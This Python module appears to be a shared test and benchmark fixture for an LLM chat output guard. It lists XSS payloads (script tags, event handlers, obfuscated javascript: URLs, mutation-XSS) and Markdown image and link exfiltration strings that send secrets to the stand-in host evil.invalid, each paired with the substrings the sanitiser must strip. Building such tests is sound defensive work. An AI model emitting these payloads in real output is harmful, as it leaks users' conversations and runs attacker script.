"""XSS and exfiltration payloads for the output guard (tests and benchmark share them).

Sources of the XSS classes: the OWASP XSS Filter Evasion and XSS Prevention cheat sheets;
Markdown exfiltration: the image/link leaks reported against LLM chat front-ends (an image URL
whose query carries the conversation). ``evil.invalid`` is the attacker; ``allowed.invalid`` is
on the bot's egress allow-list.
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True, slots=True)
class Payload:
    name: str
    text: str
    gone: tuple[str, ...]  # must not appear in the output (case-insensitive)
    fmt: str = "markdown"
    kept: tuple[str, ...] = ()  # must still appear


def _p(
    name: str, text: str, *gone: str, fmt: str = "markdown", kept: tuple[str, ...] = ()
) -> Payload:
    return Payload(name, text, gone, fmt, kept)


EVIL = "evil.invalid"
PAYLOADS: tuple[Payload, ...] = (
    # --- HTML: script and handlers -----------------------------------------------------------
    _p("script", "<script>alert(1)</script>", "<script", "alert(1)", fmt="html"),
    _p("script-upper", "<SCRIPT SRC=//evil.invalid/x.js></SCRIPT>", "<script", EVIL, fmt="html"),
    _p("script-split-nesting", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<script", fmt="html"),
    _p("img-onerror", '<img src=x onerror="alert(1)">', "onerror", fmt="html"),
    _p("img-onerror-noquotes", "<IMG SRC=/ onerror=alert(String.fromCharCode(88,83,83))></img>",
       "onerror", "fromcharcode", fmt="html"),
    _p("svg-onload", "<svg onload=alert(1)><circle r=5 /></svg>", "<svg", "onload", fmt="html"),
    _p("svg-script", "<svg><script>alert(1)</script></svg>", "<svg", "<script", fmt="html"),
    _p("svg-animate-href", '<svg><a><animate attributeName=href values=javascript:alert(1) />'
       '<text x=20 y=20>X</text></a></svg>', "javascript:", "<svg", fmt="html"),
    _p("math-xlink", '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">'
       "X</maction></math>", "javascript:", "<math", fmt="html"),
    _p("body-onload", "<body onload=alert(1)>", "onload", fmt="html"),
    _p("details-ontoggle", "<details open ontoggle=alert(1)>", "ontoggle", fmt="html"),
    _p("event-slash-separator", "<img/src='x'/onerror=alert(1)>", "onerror", fmt="html"),
    # --- HTML: javascript:, data:, vbscript: URLs -------------------------------------------
    _p("a-javascript", '<a href="javascript:alert(1)">x</a>', "javascript", fmt="html"),
    _p("a-javascript-entities", '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;'
       '&#116;&#58;alert(1)">x</a>', "alert(1)", "&#106;", fmt="html"),
    _p("a-javascript-hex-entities", '<a href="&#x6A;avascript&#x3A;alert(1)">x</a>', "alert(1)",
       fmt="html"),
    _p("a-javascript-tab", '<a href="jav\tascript:alert(1)">x</a>', "alert(1)", fmt="html"),
    _p("a-javascript-newline", '<a href="jav&#x0A;ascript:alert(1)">x</a>', "alert(1)", fmt="html"),
    _p("a-javascript-leading-space", '<a href=" &#14;  javascript:alert(1)">x</a>', "alert(1)",
       fmt="html"),
    _p("a-javascript-mixed-case", '<a href="JaVaScRiPt:alert(1)">x</a>', "alert(1)", fmt="html"),
    _p("a-vbscript", '<a href="vbscript:msgbox(1)">x</a>', "vbscript", fmt="html"),
    _p("a-data-html", '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
       "data:", fmt="html"),
    _p("iframe-srcdoc", '<iframe srcdoc="<script>alert(1)</script>"></iframe>', "iframe",
       "srcdoc", fmt="html"),
    _p("iframe-src", "<iframe src=https://evil.invalid/></iframe>", "iframe", EVIL, fmt="html"),
    _p("object-data", '<object data="https://evil.invalid/x.swf"></object>', "<object", EVIL,
       fmt="html"),
    _p("embed-src", '<embed src="javascript:alert(1)">', "<embed", "javascript", fmt="html"),
    _p("form-action", '<form action="https://evil.invalid/steal"><input name=q><button>go'
       "</button></form>", "<form", EVIL, "<input", fmt="html"),
    _p("button-formaction", '<button formaction="javascript:alert(1)">x</button>', "formaction",
       "javascript", fmt="html"),
    _p("style-expression", '<div style="width: expression(alert(1))">x</div>', "expression",
       "style", fmt="html"),
    _p("style-tag-import", "<style>@import 'https://evil.invalid/x.css';</style>", "<style",
       EVIL, fmt="html"),
    _p("style-background-url", "<p style=\"background:url('https://evil.invalid/p.png')\">x</p>",
       EVIL, fmt="html"),
    _p("meta-refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
       "<meta", "refresh", fmt="html"),
    _p("base-href", '<base href="https://evil.invalid/">', "<base", EVIL, fmt="html"),
    _p("link-stylesheet", '<link rel=stylesheet href="https://evil.invalid/x.css">', "<link",
       EVIL, fmt="html"),
    _p("mxss-noscript", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
       "onerror", fmt="html"),
    _p("mxss-comment", "<!--<img src=x onerror=alert(1)>-->", "onerror", fmt="html"),
    _p("mxss-template", "<template><img src=x onerror=alert(1)></template>", "onerror",
       fmt="html"),
    _p("img-to-evil", '<img src="https://evil.invalid/p.png?d=secret">', EVIL, fmt="html"),
    _p("img-protocol-relative", '<img src="//evil.invalid/p.png">', EVIL, fmt="html"),
    _p("a-userinfo", '<a href="https://allowed.invalid@evil.invalid/">x</a>', EVIL, fmt="html"),
    _p("allowed-link-kept", '<a href="https://allowed.invalid/docs">docs</a>', fmt="html",
       kept=('href="https://allowed.invalid/docs"',)),
    # --- Markdown: image and link exfiltration in every syntax -----------------------------
    _p("md-image-inline", "![chart](https://evil.invalid/p.png?q=the+secret)", EVIL,
       kept=("[image removed: chart]",)),
    _p("md-image-title", '![a](https://evil.invalid/p.png "title")', EVIL),
    _p("md-image-angle", "![a](<https://evil.invalid/p q.png>)", EVIL),
    _p("md-image-parens", "![a](https://evil.invalid/p_(1).png?d=x)", EVIL),
    _p("md-image-nested-brackets", "![a [b] c](https://evil.invalid/p.png)", EVIL),
    _p("md-image-in-link", "[![a](https://evil.invalid/i.png)](https://evil.invalid/l)", EVIL,
       "removed])", kept=("[image removed: a]",)),
    _p("md-links-nested-thrice", "[[[a ![i](https://evil.invalid/1)](https://evil.invalid/2)]"
       "(https://evil.invalid/3)](https://evil.invalid/4) end", EVIL, "removed]",
       kept=("a [image removed: i] end",)),
    _p("md-link-inline", "[click here](https://evil.invalid/?data=hunter2)", EVIL, "hunter2",
       kept=("click here",)),
    _p("md-link-escaped-brackets", r"[a \] b](https://evil.invalid/x)", EVIL),
    _p("md-link-newline-dest", "[a](\nhttps://evil.invalid/x\n'title')", EVIL),
    _p("md-reference-image", "![logo][img]\n\n[img]: https://evil.invalid/p.png?d=x", EVIL),
    _p("md-reference-case", "[read][DOCS]\n\n[docs]: <https://evil.invalid/x> 'T'", EVIL),
    _p("md-reference-shortcut", "see [here]\n\n[here]: https://evil.invalid/x", EVIL),
    _p("md-reference-collapsed", "see [Here][]\n\n  [here]:\n  https://evil.invalid/x", EVIL),
    _p("md-reference-in-quote", "> [id]: https://evil.invalid/x\n\n[t][id]", EVIL),
    _p("md-autolink", "<https://evil.invalid/?q=secret>", EVIL),
    _p("md-autolink-javascript", "<javascript:alert(1)>", "javascript"),
    _p("md-bare-url", "Results: https://evil.invalid/collect?d=secret ok", EVIL),
    _p("md-bare-www", "go to www.evil.invalid/x?d=1", EVIL),
    _p("md-html-img", 'text <img src="https://evil.invalid/p.png?d=secret"> more', EVIL),
    _p("md-html-a", 'text <a href="https://evil.invalid/">here</a>', EVIL, kept=("here",)),
    _p("md-html-img-onerror", "Hello <img src=x onerror=alert(1)>\n\n> a quote", "onerror",
       kept=("> a quote",)),
    _p("md-javascript-link", "[x](javascript:alert(1))", "javascript"),
    _p("md-javascript-entity", "[x](javascript&#58;alert(1))", "javascript"),
    _p("md-javascript-escaped", r"[x](javascript\:alert(1))", "javascript"),
    _p("md-data-image", "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)", "data:"),
    _p("md-fullwidth-javascript", "[x](\uff4a\uff41\uff56\uff41\uff53\uff43\uff52\uff49\uff50"
       "\uff54:alert(1))", "alert(1)"),
    _p("md-zero-width-javascript", "[x](java\u200bscript:alert(1))", "alert(1)"),
    _p("md-removal-joins-link", "[a]<font></font>(https://evil.invalid/x)", EVIL),
    _p("md-removal-joins-tag", "<[x](https://evil.invalid/)script>alert(1)</script>",
       "<script", EVIL),
    _p("md-protocol-relative", "![x](//evil.invalid/p.png)", EVIL),
    _p("md-relative", "![x](/api/delete?id=1)", "/api/delete"),
    _p("md-allowed-kept", "See [docs](https://allowed.invalid/d) and "
       "![c](https://allowed.invalid/c.png)", kept=("(https://allowed.invalid/d)",
                                                    "(https://allowed.invalid/c.png)")),
    _p("md-secret-in-allowed-url", "[x](https://allowed.invalid/?k=AKIAZ3MXQ2Y4N5P6R7TW)",
       "AKIAZ3MX", kept=("https://allowed.invalid/",)),
    _p("md-secret-in-removed-url-text", "<https://evil.invalid/?k=AKIAZ3MXQ2Y4N5P6R7TW>",
       "AKIAZ3MX", EVIL),
    _p("md-email-in-image-alt", "![john.doe@corp.invalid](https://evil.invalid/p.png)",
       "john.doe@", EVIL),
    _p("text-bare-url", "Visit https://evil.invalid/?d=secret now", EVIL, fmt="text"),
    _p("text-html", "<img src=x onerror=alert(1)>", "onerror", fmt="text"),
)  # fmt: skip
